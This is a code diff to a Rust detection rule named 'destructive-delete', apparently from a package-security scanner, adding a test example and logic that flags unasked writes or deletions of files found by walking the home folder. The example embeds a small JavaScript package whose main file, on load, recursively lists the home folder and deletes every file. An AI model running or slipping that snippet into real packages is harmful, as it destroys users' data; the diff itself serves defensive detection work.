@@ -2,7 +2,8 @@
 
 use super::judge::{self, ByTrigger};
 use super::{Context, Declaration, Example, Finding};
-use crate::model::Severity;
+use crate::behaviours::Behaviour;
+use crate::model::{Origin, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "destructive-delete",
@@ -13,6 +14,35 @@ pub(super) static FINDING: Declaration = Declaration {
     benign_when: "It cleans up a disk image or a container that it made itself.",
     references: &["CWE-506", "CWE-73", "T1485", "T1561"],
     examples: &[
+        Example {
+            name: "a walk through the home folder deletes what it finds, from another file",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os");
+const { flatten } = require("./source");
+setImmediate(() => {
+  for (const file of flatten(os.homedir())) fs.rmSync(file, { force: true });
+});"#,
+                ),
+                (
+                    "source.js",
+                    r#"const fs = require("fs"), path = require("path");
+exports.flatten = function* flatten(dir) {
+  for (const one of fs.readdirSync(dir, { withFileTypes: true })) {
+    const full = path.join(dir, one.name);
+    if (one.isDirectory()) yield* flatten(full);
+    else yield full;
+  }
+};"#,
+                ),
+            ],
+        },
         Example {
             name: "an install script deletes the home folder",
             severity: Some(Severity::Critical),
@@ -112,6 +142,43 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
 /// Files whose names come from a listing are overwritten, and what is listed is a home folder,
 /// the root or what lies above.
 fn overwritten(context: &Context<'_>) -> Option<Finding> {
+    found_at_home(context).or_else(|| found_in_root(context))
+}
+
+/// A file whose name comes from the home folder and from a listing, and from nothing else that is
+/// known, is overwritten or deleted without anybody asking: caches are cleared when asked.
+fn found_at_home(context: &Context<'_>) -> Option<Finding> {
+    let of = |id: &'static str| {
+        let all = context.behaviours.iter();
+        all.filter(move |one| one.what.id == id)
+    };
+    let is_beside = |a: &Behaviour, b: &Behaviour| {
+        a.sites
+            .iter()
+            .any(|a| b.sites.iter().any(|b| a.file == b.file))
+    };
+    let mut changed = of("fs.write").chain(of("fs.delete")).filter(|one| {
+        let is_any = one.target.is_none();
+        let is_unasked = judge::is_unasked(one.reach);
+        is_any && is_unasked && one.origin.has(Origin::File) && one.origin.has(Origin::Host)
+    });
+    let home = |one: &&Behaviour| one.target.as_deref() == Some("home");
+    let first = changed.find(|one| {
+        let mut homes = of("environment.host").filter(home);
+        homes.any(|home| is_beside(home, one))
+    })?;
+    of("fs.list").next()?;
+    let does = match first.what.id {
+        "fs.write" => "writes to",
+        _ => "deletes",
+    };
+    let message = format!("{does} each file that it finds in the home folder");
+    let mut finding = Finding::of_behaviour(&FINDING, first, message);
+    judge::by_trigger(AT_MOST, &mut finding);
+    Some(finding)
+}
+
+fn found_in_root(context: &Context<'_>) -> Option<Finding> {
     let listed = context.behaviours.iter().find(|one| {
         one.what.id == "fs.list"
             && one
